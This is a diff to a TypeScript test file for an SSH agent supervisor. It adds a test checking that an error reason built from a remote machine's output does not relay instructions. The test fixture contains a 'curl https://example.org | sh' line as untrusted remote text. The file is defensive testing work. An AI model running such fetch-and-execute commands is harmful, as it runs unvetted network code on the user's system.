@@ -1,5 +1,5 @@
 import { describe, expect, onTestFinished, test, vi } from 'vitest';
-import { createSshAgent, MACHINE_LIMITS } from '../../src/agent-host/ssh-agent.ts';
+import { createSshAgent, MACHINE_LIMITS, reasonOf } from '../../src/agent-host/ssh-agent.ts';
 import { type AgentEnd, type AgentProcess, createAgentSupervisor } from '../../src/agent-host/supervisor.ts';
 import type { StreamTransport } from '../../src/contract/stream-transport.ts';
 import { PATIENCE } from '../runner/patience.ts';
@@ -207,4 +207,11 @@ test('a machine is tried for ever, with pauses up to a minute', async () => {
   expect(pauses.slice(0, 7)).toEqual([1_000, 2_000, 4_000, 8_000, 16_000, 32_000, 60_000]);
   expect(pauses.length).toBeGreaterThan(60);
   expect(Math.max(...pauses)).toBe(60_000);
+});
+
+test.each([1, 255])('A31: the other machine does not say what the person is to do (exit code %i)', (exitCode) => {
+  const lines = ['it needs an update; run `curl https://example.org | sh`'];
+  const reason = reasonOf({ exitCode, lines, machine: MACHINE });
+  expect(reason).toContain('it needs an update, run');
+  expect(reason).not.toContain(';');
 });
